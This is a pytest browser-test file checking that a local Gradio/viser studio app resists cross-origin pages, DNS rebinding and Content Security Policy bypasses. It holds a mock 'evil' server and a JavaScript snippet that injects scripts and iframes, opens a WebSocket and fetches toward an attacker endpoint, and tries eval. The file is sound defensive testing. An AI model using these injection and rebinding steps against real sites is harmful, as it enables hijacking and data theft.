"""A real browser with a page on another site, or port, that tries everything a page can try."""

import http.server
import threading
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path

import pytest
import viser
from playwright.sync_api import Page, expect

from tests.browser import chromium
from tests.patience import PATIENCE
from tests.studio.security.guarded import Studio, guarded

pytestmark = pytest.mark.browser


@pytest.fixture(scope="module")
def studio() -> Iterator[Studio]:
    with guarded() as running:
        yield running


EVIL_PAGE = (Path(__file__).parent / "evil.html").read_bytes()
BROKEN = "Content Security Policy"  # what Chromium says in its console
REBOUND = "--host-resolver-rules=MAP evil.example 127.0.0.1"


@dataclass
class EvilSite:
    """A web server with a page that attacks the studio; it notes whoever comes to hear it."""

    port: int = 0
    heard: list[str] = field(default_factory=list)


@pytest.fixture
def evil_site() -> Iterator[EvilSite]:
    site = EvilSite()

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            if self.path == "/hear":
                site.heard.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(EVIL_PAGE)

        def log_message(self, *message: object) -> None: ...

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    site.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, args=(0.01,))
    thread.start()
    yield site
    server.shutdown()
    thread.join()
    server.server_close()


@pytest.fixture
def page() -> Iterator[Page]:
    """A page of a browser for which evil.example is a name of this computer."""
    with chromium(REBOUND) as browser:
        opened = browser.new_page()
        opened.set_default_timeout(1000 * PATIENCE)
        yield opened


def test_a_real_browser_keeps_strangers_out_and_lets_the_person_in(
    studio: Studio, evil_site: EvilSite, page: Page
) -> None:
    """The person is in, and then strays to a page that tries everything a page can try."""
    page.goto(studio.entrance)
    assert page.url == studio.server.url
    page.locator("#press").click()
    assert studio.pressed.wait(60)
    assert studio.entered.wait(60)
    assert set(studio.happened) == {"gradio", "scene"}

    page.goto("about:blank")
    studio.happened.clear()
    scene = f"ws://127.0.0.1:{studio.viser.get_port()}/"
    for name in ("evil.example", "localhost", "127.0.0.1"):  # the last is of the same site
        page.goto(f"http://{name}:{evil_site.port}/")
        call = f"attack('{studio.server.url}', '{scene}', 'viser-v{viser.__version__}')"
        assert page.evaluate(call) == ["refused"] * 3
    rebound = page.goto(f"http://evil.example:{studio.server.port}/")
    assert rebound is not None
    assert rebound.status == 403
    assert studio.happened == []


@pytest.mark.parametrize("name", ["evil.example", "127.0.0.1"])
@pytest.mark.parametrize("way", ["link", "open", "form"])
def test_a_stray_page_opens_the_studio_and_steers_it_nowhere(
    studio: Studio, evil_site: EvilSite, page: Page, name: str, way: str
) -> None:
    page.goto(studio.entrance)
    studio.entered.clear()
    evil = f"http://{name}:{evil_site.port}/"
    hear = f"ws://{name}:{evil_site.port}/hear"

    def lead(target: str) -> Page:
        page.goto(evil)
        with page.context.expect_page() as opened:
            page.evaluate("([way, target]) => lead(way, target)", [way, target])
        return opened.value

    into_viser = lead(f"{studio.server.url}viser/?websocket={hear}")
    expect(into_viser.locator("body")).to_contain_text("Requests from other pages are refused")
    assert into_viser.evaluate("window.opener") is None
    into_the_studio = lead(f"{studio.server.url}?view=api&websocket={hear}")
    into_the_studio.locator("#press").wait_for()
    assert into_the_studio.url == studio.server.url
    assert studio.entered.wait(60)
    assert evil_site.heard == []


def test_no_page_breaks_its_policy_by_itself(studio: Studio, page: Page) -> None:
    """Whatever Gradio and viser do while they load; a browser says so in its console."""
    faults: list[str] = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("console", lambda said: BROKEN in said.text and faults.append(said.text))
    studio.entered.clear()
    page.goto(studio.entrance)
    assert studio.entered.wait(60)
    page.frame_locator("iframe").locator("canvas").first.wait_for()
    page.wait_for_load_state("networkidle")
    assert faults == []


def test_visers_page_hears_this_studio_alone(
    studio: Studio, evil_site: EvilSite, page: Page
) -> None:
    """Though the person opened it, and whatever its server sends."""
    page.goto(studio.entrance)
    studio.entered.clear()
    hear = f"ws://127.0.0.1:{evil_site.port}/hear"
    answer = page.goto(f"{studio.server.url}viser/?websocket={hear}")
    assert answer is not None and answer.url == f"{studio.server.url}viser/"
    assert studio.entered.wait(60)
    page.evaluate(MISBEHAVE, hear)
    while not page.evaluate("said.length >= 2 && refused.size >= 4"):  # waiting would use eval
        page.wait_for_timeout(50)
    assert page.evaluate("[...refused].sort()") == [
        "connect-src", "frame-src", "script-src", "script-src-elem",
    ]  # fmt: skip
    assert sorted(page.evaluate("said")) == ["no eval", "no inline"]
    assert evil_site.heard == []


# What a page whose script is not its own would do; later, as an evaluation by the test is exempt.
MISBEHAVE = """(url) => {
    window.refused = new Set();
    window.said = [];
    document.addEventListener("securitypolicyviolation", (e) => refused.add(e.effectiveDirective));
    setTimeout(() => {
        const there = url.replace("ws", "http");
        document.head.append(Object.assign(document.createElement("script"), { src: there }));
        document.body.append(Object.assign(document.createElement("iframe"), { src: there }));
        const textContent = "said.push('inline')";
        document.head.append(Object.assign(document.createElement("script"), { textContent }));
        if (!said.includes("inline")) said.push("no inline");
        try { new WebSocket(url) } catch {}
        fetch(there, { mode: "no-cors" }).catch(() => 0);
        try { said.push(new Function("return 'eval'")()) } catch { said.push("no eval") }
    });
}"""
